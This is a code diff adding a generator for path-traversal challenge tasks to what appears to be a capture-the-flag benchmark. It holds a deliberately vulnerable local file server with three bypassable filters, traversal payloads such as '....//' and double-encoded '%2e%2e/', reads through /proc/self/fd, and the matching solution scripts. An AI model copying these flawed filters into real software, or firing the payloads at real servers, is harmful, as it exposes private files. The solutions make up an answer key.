@@ -442,3 +442,96 @@ def _chain_parts(rng: random.Random, flag: str, leak: str, auth: str, execution:
 
 
 build_chain = Templates(tuple(_chain(leak, auth, run) for leak in _LEAKS for auth in _AUTHS for run in _EXECS))
+
+
+# ---- web-traversal: a download endpoint with a bypassable path filter; the flag is only in an open file ----
+
+_TRAVERSAL_SERVER = """
+# the flag file stays open (and deleted) in this process: /proc/self/fd is the only way left to it
+SECRET_FILE = open("$flag_file")
+os.remove("$flag_file")
+ROOT = os.path.abspath("$public")
+
+
+class Handler(Base):
+    def do_GET(self):
+        url = urllib.parse.urlparse(self.path)
+        if url.path == "/":
+            names = sorted(os.listdir(os.path.join(ROOT, "$first")))
+            listing = "\\n".join("/$download?$param=$first/" + name for name in names)
+            self.send(200, "Public documents:\\n" + listing + "\\n")
+        elif url.path == "/$download":
+            name = self.query().get("$param", "")
+$filter
+            try:
+                with open(os.path.join(ROOT, name)) as fh:
+                    self.send(200, fh.read())
+            except OSError:
+                self.send(404, "no such document")
+        else:
+            self.send(404, "not found")
+"""
+
+_FILTERS = {
+    # strips "../" once, so "....//" becomes "../"
+    "strip_once": ("            name = name.replace('../', '')\n", "....//"),
+    # refuses a raw "..", then decodes a second time, so "%2e%2e/" (sent as %252e%252e/) passes
+    "double_decode": (
+        "            if '..' in name:\n                self.send(403, 'traversal refused')\n                return\n"
+        "            name = urllib.parse.unquote(name)\n",
+        "%2e%2e/",
+    ),
+    # only the first path segment is checked against the document root
+    "prefix_check": (
+        "            if not name.startswith('$first'):\n                self.send(403, 'outside the document root')\n"
+        "                return\n",
+        "",
+    ),
+}
+
+
+def _traversal(kind: str) -> Builder:
+    def build(rng: random.Random, flag: str) -> Parts:
+        port = port_for(rng, 34000)
+        docs = [ident(rng, "", 6) + ".txt" for _ in range(rng.randint(2, 5))]
+        values = {"flag_file": ident(rng, ".f", 8), "public": ident(rng, "pub_", 4), "download": ident(rng, "get_", 4),
+                  "param": ident(rng, "", 4), "port": str(port), "first": ident(rng, "docs_", 3)}  # fmt: skip
+        code, step = _FILTERS[kind]
+        values["filter"] = Template(code).substitute(values)
+        server = Template(_FLAG_LOADER.split("import os")[0] + "import os\n" + _HTTP + _TRAVERSAL_SERVER + _SERVE)
+        server_text = server.substitute(values)
+        script = ident(rng, ".dl_", 6) + ".py"
+        depth = 12
+        if kind == "prefix_check":
+            path = values["first"] + "/" + "../" * depth + "proc/self/fd/3"
+        else:
+            path = step * depth + "proc/self/fd/3"
+        quoted = path.replace("%", "%25") if kind == "double_decode" else path
+        solution = f"""
+import sys, urllib.request
+base = "http://127.0.0.1:%s" % sys.argv[1]
+print("param={values['param']}")
+print(urllib.request.urlopen(base + "/{values['download']}?{values['param']}={quoted}").read().decode())
+"""
+        files = {script: server_text.encode(), values["flag_file"]: flag.encode()}
+        files |= {f"{values['public']}/{values['first']}/{doc}": f"{rng.choice(WORDS)} minutes\n".encode() for doc in docs}
+        return Parts(
+            prompt=(
+                f"A document portal runs on http://127.0.0.1:{port}/ (no source is available). The flag is held by "
+                "the portal process; it is not in any file you can list."
+            ),
+            files=files,
+            setup=_hidden_service(port, script),
+            solution=py_solution(solution, str(port)),
+            subtasks=(Subtask("param", "Which query parameter names the file to download?", values["param"]),),
+            program=server_text,
+            recon=(f"curl -s http://127.0.0.1:{port}/",
+                   f"curl -s 'http://127.0.0.1:{port}/{values['download']}?{values['param']}=../../etc/hostname'"),
+            port=port,
+        )
+
+    build.__name__ = kind
+    return build
+
+
+build_traversal = Templates(tuple(_traversal(kind) for kind in _FILTERS))
